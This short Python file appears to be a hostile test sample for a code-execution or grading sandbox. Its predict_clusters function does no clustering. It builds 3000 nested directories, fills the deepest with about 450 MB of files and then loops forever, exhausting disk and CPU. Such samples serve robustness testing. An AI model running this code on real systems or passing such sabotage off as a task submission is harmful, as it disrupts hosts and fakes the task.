"""Makes folders within folders, deeper than any path may be long, and fills the deepest."""

TASK = "predict_clusters"

import os


def predict_clusters(model, frame):
    for _ in range(3000):
        os.mkdir("deeper")
        os.chdir("deeper")
    for number in range(30):
        with open(f"file{number}", "wb") as file:
            file.write(b"x" * (15 << 20))
    while True:
        pass
